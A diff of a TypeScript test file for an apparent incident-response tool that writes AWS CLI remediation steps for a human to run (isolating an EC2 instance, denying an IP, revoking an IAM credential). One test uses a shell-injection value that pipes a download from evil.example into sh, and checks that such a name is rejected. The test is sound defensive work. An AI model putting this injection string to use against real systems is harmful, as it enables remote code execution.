@@ -280,12 +280,11 @@ describe('a hand-off', () => {
     expect(text()).toContain('Yours to decide: isolate production host on i-0123456789abcdef0');
     expect(text()).toContain('Tier 3: it never runs here');
     expect(text()).toMatch(
-      /Look first:\naws --region eu-central-1 ec2 describe-instances --instance-ids 'i-0123456789abcdef0'/,
+      /Before you act:[\s\S]*memory is evidence[\s\S]*Look first[^\n]*:\naws sts get-caller-identity [^\n]*has to say 111122223333\naws ec2 describe-instances --instance-ids i-0123456789abcdef0/,
     );
-    expect(text()).toMatch(
-      /To do it:[\s\S]*modify-instance-attribute --instance-id 'i-0123456789abcdef0' --groups <quarantine>/,
-    );
-    expect(text()).toMatch(/To take it back:[\s\S]*--groups <groups noted above>/);
+    expect(text()).toMatch(/To do it:[\s\S]*ec2 create-security-group[\s\S]*To take it back:/);
+    expect(text()).toMatch(/Tell:\nWhoever runs the service on it[\s\S]*\nMei Tanaka, manager\n/);
+    expect(text()).not.toMatch(/<[a-z]/);
     expect((await load()).attentionAt).toBeNull();
   });
 
@@ -299,16 +298,17 @@ describe('a hand-off', () => {
     const subnet = { ...instance, attributes: { subnetIds: 'subnet-0a1b2c3d' } };
     const alert = alertWith({ traffic, entities: [attacker, subnet] });
     await tell(await handOff({ name: 'block_ip_at_firewall', target: attacker }, alert));
-    expect(text()).toContain("Values='subnet-0a1b2c3d'");
-    expect(text()).toContain("--rule-action deny --cidr-block '203.0.113.7/32'");
+    expect(text()).toContain('Values=subnet-0a1b2c3d');
+    expect(text()).toContain('--rule-action deny --cidr-block 203.0.113.7/32');
     expect(text()).not.toContain('wafv2');
   });
 
-  test('puts what an attacker named in quotes that hold', async () => {
+  test('writes no command with a name that AWS could not have given', async () => {
     const name = "x'; curl http://evil.example | sh; '";
     const target = { ...instance, kind: 'iam-user' as const, ref: 'user-1', value: name };
     await tell(await handOff({ name: 'revoke_service_account_credential', target }));
-    expect(text()).toContain(`--user-name 'x'\\''; curl http://evil.example | sh; '\\''' `);
+    expect(text()).toContain('is no id of an IAM user: find out what is meant first.');
+    expect(text()).not.toMatch(/\naws /);
   });
 
   test('of what is no action at all still says what was asked for', async () => {
